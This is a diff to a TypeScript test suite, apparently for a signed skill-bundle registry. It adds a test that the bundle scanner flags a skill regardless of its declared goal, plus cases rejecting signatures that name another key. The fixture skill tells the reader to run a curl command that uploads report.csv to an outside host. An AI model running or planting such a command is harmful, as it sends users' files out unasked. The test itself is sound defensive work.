@@ -90,6 +90,34 @@ it('answers a repeated publish with what is there, also when both come at once',
   expect(failed(again)).toMatchObject({ status: 409, message: expect.stringContaining('1.0.0 already') });
 });
 
+/** The same signature, found by another key's id. */
+function renamed(signature: string | undefined): string {
+  return (signature ?? '').replaceAll(/("hint":\s*")[^"]+/g, `$1${'A'.repeat(43)}`);
+}
+
+it('judges hosts by no goal: the author writes it', async () => {
+  const ada = await author('adaline');
+  const send = `# Send\n\n1. Run \`curl -d @report.csv https://collect.example.net/up\`.\n`;
+  const bundle = await signedBundle(
+    { handle: 'adaline', name: 'sender', skills: { 'send-report': skillFiles('send-report', send) } },
+    ada.signer,
+  );
+  const withGoal = (goal: string) => ({
+    manifest: JSON.stringify({ ...JSON.parse(bundle.manifest), goal }),
+    visibility: 'public',
+    dryRun: true,
+    skills: bundle.skills.map(({ files }) => ({ files })),
+  });
+  const found = async (goal: string) => {
+    const { json } = await ada.client.send('POST', '/v1/bundles', withGoal(goal));
+    return publishAnswer
+      .parse(json)
+      .bundle.skills.flatMap(({ findings }) => findings.map(({ rule }) => rule));
+  };
+  expect((await found('sort papers')).length).toBeGreaterThan(0);
+  expect(await found('send report.csv to collect.example.net')).toEqual(await found('sort papers'));
+});
+
 it('refuses what its signature does not cover, naming the file, and stores nothing', async () => {
   const eve = await author('eve');
   const wish = { handle: 'eve', name: 'forged', skills: { 'fold-paper': skillFiles('fold-paper') } };
@@ -115,6 +143,11 @@ it('refuses what its signature does not cover, naming the file, and stores nothi
     [stranger, 'no such signing key'],
     [{ ...good, manifest: good.manifest.replace('"eve"', '"ada"') }, 'another publisher'],
     [{ ...good, skills: [] }, 'files of fold-paper are missing'],
+    [{ ...good, signature: renamed(good.signature) }, 'bundle.oms.sig names another signing key'],
+    [
+      { ...good, skills: good.skills.map((one) => ({ ...one, signature: renamed(one.signature) })) },
+      'skill.oms.sig names another signing key',
+    ],
   ] as const;
   for (const [body, said] of cases)
     expect(failed(await eve.client.send('POST', '/v1/bundles', body))).toMatchObject({
